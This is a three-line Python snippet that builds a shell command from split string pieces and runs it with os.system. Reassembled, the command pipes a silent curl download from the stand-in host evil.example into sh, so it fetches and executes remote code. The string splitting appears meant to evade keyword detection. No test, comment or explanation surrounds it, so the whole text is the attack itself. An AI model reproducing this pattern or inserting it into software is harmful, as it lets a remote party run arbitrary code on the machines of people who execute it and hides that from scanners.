import os

os.system("cu" + "rl -s http://evil.example/x | s" + "h")
